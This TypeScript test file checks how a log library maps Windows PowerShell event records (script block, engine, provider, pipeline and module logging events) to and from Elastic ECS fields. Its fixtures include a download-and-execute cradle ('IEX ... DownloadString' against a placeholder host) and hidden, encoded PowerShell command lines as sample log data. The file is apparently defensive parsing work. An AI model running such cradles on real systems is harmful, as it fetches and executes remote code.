import type { CanonicalEvent } from '../../../../../src/events/canonical-event.js';
import { encodePowerShellModule } from '../../../../../src/events/encode/ecs-powershell.js';
import { normaliseDocument } from '../../../../../src/events/formats/index.js';
import { readRecord } from '../../../../../src/events/read-record.js';

const scriptBlock: CanonicalEvent = {
  host: 'WKS7',
  channel: 'Microsoft-Windows-PowerShell/Operational',
  provider: 'Microsoft-Windows-PowerShell',
  eventId: 4104,
  time: Date.UTC(2020, 9, 22, 5, 54, 21, 520),
  format: 'winlogbeat',
  data: {
    MessageNumber: '1',
    MessageTotal: '1',
    ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")',
    ScriptBlockId: '0c8cf9b6-1ef1-4d45-9f5c-d3a0a2a1c0d1',
    Path: '',
  },
};

function read(text: string): CanonicalEvent | undefined {
  const [outcome] = readRecord(new TextEncoder().encode(text));
  return outcome?.kind === 'event' ? outcome.event : undefined;
}

describe('ECS PowerShell module mapping (4104)', () => {
  it.each(['winlogbeat', 'elastic-agent'] as const)('gives back every field of a script block (%s)', (shipper) => {
    // Act
    const text = encodePowerShellModule(scriptBlock, { shipper });
    // Assess: the module left no EventData at all (all moved, the empty Path removed)...
    expect(JSON.parse(text).winlog.event_data).toBeUndefined();
    expect(JSON.parse(text).powershell.file.script_block_text).toBe(scriptBlock.data.ScriptBlockText);
    // ...and the reader rebuilds it whole.
    expect(read(text)).toEqual({ ...scriptBlock, format: shipper });
  });

  it('takes a script path back from file.path', () => {
    const withPath = { ...scriptBlock, data: { ...scriptBlock.data, Path: 'C:\\s\\a.ps1' } };
    expect(read(encodePowerShellModule(withPath, { shipper: 'winlogbeat' }))?.data.Path).toBe('C:\\s\\a.ps1');
  });

  it('rebuilds nothing when the module did not run (no empty fields invented)', () => {
    const result = normaliseDocument(
      {
        '@timestamp': '2020-10-22T05:54:21.520Z',
        winlog: {
          channel: 'Microsoft-Windows-PowerShell/Operational',
          provider_name: 'Microsoft-Windows-PowerShell',
          computer_name: 'WKS7',
          event_id: '4104',
          event_data: { ScriptBlockText: 'x' },
        },
      },
      'json',
    );
    expect(result.ok && result.value.data).toEqual({ ScriptBlockText: 'x' });
  });
});

/** A document as the module leaves it, written from its documented field list (powershell.yml / _operational). */
function moduleDocument(winlog: Record<string, unknown>, ecs: Record<string, unknown>): Record<string, unknown> {
  return {
    '@timestamp': '2020-05-14T07:00:30.891Z',
    ...ecs,
    event: { module: 'powershell', kind: 'event', category: 'process', ...((ecs.event as object) ?? {}) },
    winlog: { computer_name: 'WKS7', record_id: '1492', ...winlog },
  };
}

function dataOf(document: Record<string, unknown>): Record<string, string> | undefined {
  const result = normaliseDocument(document, 'json');
  return result.ok ? result.value.data : undefined;
}

const classicDetails400 = [
  '\tNewEngineState=Available\r\n\tPreviousEngineState=None',
  '\tSequenceNumber=13',
  [
    '\tHostName=ConsoleHost',
    '\tHostVersion=5.1.17763.1007',
    '\tHostId=83c6a631-910d-4530-bec2-18b2d0fc380a',
    '\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc SQBFAFgA',
    '\tEngineVersion=5.1.17763.1007',
    '\tRunspaceId=056a5045-a7bb-49c6-9a9d-2ea95acea751',
    '\tPipelineId=',
    '\tCommandName=',
    '\tCommandType=',
    '\tScriptName=',
    '\tCommandPath=',
    '\tCommandLine=',
  ].join('\r\n'),
].join('\r\n\r\n');

const ecs400 = {
  event: { code: '400', sequence: 13, type: 'start' },
  powershell: {
    engine: { new_state: 'Available', previous_state: 'None', version: '5.1.17763.1007' },
    process: { executable_version: '5.1.17763.1007' },
    runspace_id: '056a5045-a7bb-49c6-9a9d-2ea95acea751',
  },
  process: {
    args: ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-nop', '-enc', 'SQBFAFgA'],
    args_count: 4,
    command_line: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc SQBFAFgA',
    entity_id: '83c6a631-910d-4530-bec2-18b2d0fc380a',
    title: 'ConsoleHost',
  },
};
const classicWinlog = { channel: 'Windows PowerShell', provider_name: 'PowerShell', event_id: '400' };

describe('ECS PowerShell module mapping (classic Windows PowerShell)', () => {
  const expected = { Data1: 'Available', Data2: 'None', Data3: classicDetails400 };

  it('reads Winlogbeat paramN (no module) as DataN, as the evtx_dump and XML forms name them', () => {
    const document = {
      '@timestamp': '2020-05-14T07:00:30.891Z',
      winlog: {
        ...classicWinlog,
        computer_name: 'WKS7',
        event_data: { param1: 'Available', param2: 'None', param3: classicDetails400 },
      },
    };
    expect(dataOf(document)).toEqual(expected);
  });

  it('rebuilds the three values from the ECS fields when there is no message', () => {
    expect(dataOf(moduleDocument(classicWinlog, ecs400))).toEqual(expected);
  });

  it('takes them verbatim from the message, where the ECS layout would differ (PowerShell 2.0: no HostApplication)', () => {
    const details = classicDetails400.replace(/\r\n\tHostApplication=[^\r]*/, '').replaceAll('5.1.17763.1007', '2.0');
    const message = `Engine state is changed from None to Available. \r\n\r\nDetails: \r\n${details}`;
    const { process, ...rest } = ecs400;
    const noApplication = { ...rest, process: { entity_id: process.entity_id, title: process.title } };
    const document = moduleDocument(classicWinlog, { ...noApplication, message });
    expect(dataOf(document)).toEqual({ ...expected, Data3: details });
    // Without the message the layout is Windows' usual one: an empty HostApplication line appears.
    expect(dataOf(moduleDocument(classicWinlog, noApplication))?.Data3).toContain('\tHostApplication=\r\n');
  });

  it('refuses a message split the ECS sequence number contradicts, and falls back to ECS', () => {
    const message = `Engine state is changed from None to Available. \r\n\r\nDetails: \r\n${classicDetails400.replace('SequenceNumber=13', 'SequenceNumber=99')}`;
    expect(dataOf(moduleDocument(classicWinlog, { ...ecs400, message }))).toEqual(expected);
  });

  it('rebuilds a 600 and an 800 (with invocation details and the user)', () => {
    const ecs600 = {
      event: { code: '600', sequence: 1 },
      powershell: { provider: { name: 'Registry', new_state: 'Started' } },
      process: {
        title: 'ServerRemoteHost',
        entity_id: 'h1',
        command_line: 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding',
      },
    };
    const data600 = dataOf(moduleDocument({ ...classicWinlog, event_id: '600' }, ecs600));
    expect(data600?.Data1).toBe('Registry');
    expect(data600?.Data2).toBe('Started');
    expect(data600?.Data3).toMatch(
      /^\tProviderName=Registry\r\n\tNewProviderState=Started\r\n\r\n\tSequenceNumber=1\r\n\r\n\tHostName=ServerRemoteHost\r\n/,
    );
    const ecs800 = {
      event: { code: '800', sequence: 17 },
      user: { domain: 'VAGRANT', name: 'vagrant' },
      powershell: {
        sequence: 1,
        total: 1,
        pipeline_id: '1',
        command: {
          value: 'Add-Type -AssemblyName System.IO.Compression.FileSystem',
          invocation_details: [
            { type: 'CommandInvocation', related_command: 'Add-Type', value: '"Add-Type"' },
            {
              type: 'ParameterBinding',
              related_command: 'Add-Type',
              name: '"AssemblyName"',
              value: '"System.IO.Compression.FileSystem"',
            },
          ],
        },
      },
      process: { title: 'ConsoleHost' },
    };
    const data800 = dataOf(moduleDocument({ ...classicWinlog, event_id: '800' }, ecs800));
    expect(data800?.Data1).toBe('Add-Type -AssemblyName System.IO.Compression.FileSystem');
    expect(data800?.Data2).toContain(
      '\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=17\r\n\r\n\tUserId=VAGRANT\\vagrant\r\n',
    );
    expect(data800?.Data3).toBe(
      'CommandInvocation(Add-Type): "Add-Type"\r\nParameterBinding(Add-Type): name="AssemblyName"; value="System.IO.Compression.FileSystem"\r\n',
    );
  });
});

describe('ECS PowerShell module mapping (4103 module logging)', () => {
  const contextInfo = [
    'Severity = Informational',
    'Host Name = ConsoleHost',
    'Host Version = 5.1.18362.1',
    'Host ID = 8cf1f33f-f525-407f-acee-750d01ea0d60',
    'Host Application = powershell.exe -nop -w hidden',
    'Engine Version = 5.1.18362.1',
    'Runspace ID = 6670ef2c-78b7-4e2b-b942-6137a35771fd',
    'Pipeline ID = 1',
    'Command Name = New-Object',
    'Command Type = Cmdlet',
    'Script Name = ',
    'Command Path = ',
    'Sequence Number = 20',
    'User = shire\\pgustavo',
    'Connected User = ',
    'Shell ID = Microsoft.PowerShell',
  ]
    .map((line) => `        ${line}\r\n`)
    .join('');
  const payload =
    'CommandInvocation(New-Object): "New-Object"\r\nParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"\r\n';
  const winlog = {
    channel: 'Microsoft-Windows-PowerShell/Operational',
    provider_name: 'Microsoft-Windows-PowerShell',
    event_id: '4103',
  };
  const ecs4103 = {
    event: { code: '4103', sequence: 20 },
    log: { level: 'information' },
    user: { domain: 'shire', name: 'pgustavo' },
    process: {
      title: 'ConsoleHost',
      entity_id: '8cf1f33f-f525-407f-acee-750d01ea0d60',
      command_line: 'powershell.exe -nop -w hidden',
    },
    powershell: {
      id: 'Microsoft.PowerShell',
      engine: { version: '5.1.18362.1' },
      process: { executable_version: '5.1.18362.1' },
      runspace_id: '6670ef2c-78b7-4e2b-b942-6137a35771fd',
      pipeline_id: '1',
      command: {
        name: 'New-Object',
        type: 'Cmdlet',
        invocation_details: [
          { type: 'CommandInvocation', related_command: 'New-Object', value: '"New-Object"' },
          { type: 'ParameterBinding', related_command: 'New-Object', name: '"TypeName"', value: '"Net.WebClient"' },
        ],
      },
    },
  };

  it('rebuilds ContextInfo and Payload from the ECS fields', () => {
    expect(dataOf(moduleDocument(winlog, ecs4103))).toEqual({
      ContextInfo: contextInfo,
      UserData: '',
      Payload: payload,
    });
  });

  it('takes them from the message when it is there (dotted keys too)', () => {
    const message = `${payload}\r\n\r\nContext:\r\n${contextInfo}\r\n\r\nUser Data:\r\n\r\n`;
    const document = moduleDocument(winlog, {
      'powershell.command.name': 'New-Object',
      message,
      event: { sequence: 20 },
    });
    expect(dataOf(document)).toEqual({ ContextInfo: contextInfo, UserData: '', Payload: payload });
  });

  it('gives the user back from destination.user when a connected user was split off', () => {
    const connected = {
      ...ecs4103,
      user: { domain: 'shire', name: 'admin' },
      source: { user: { domain: 'shire', name: 'admin' } },
      destination: { user: { domain: 'shire', name: 'pgustavo' } },
    };
    const rebuilt = dataOf(moduleDocument(winlog, connected))?.ContextInfo;
    expect(rebuilt).toContain('        User = shire\\pgustavo\r\n        Connected User = shire\\admin\r\n');
  });

  it('leaves a 4103 the module did not process as it is', () => {
    const document = {
      '@timestamp': '2020-05-14T07:00:30.891Z',
      winlog: { ...winlog, computer_name: 'WKS7', event_data: { ContextInfo: contextInfo, Payload: payload } },
    };
    expect(dataOf(document)).toEqual({ ContextInfo: contextInfo, Payload: payload });
  });
});
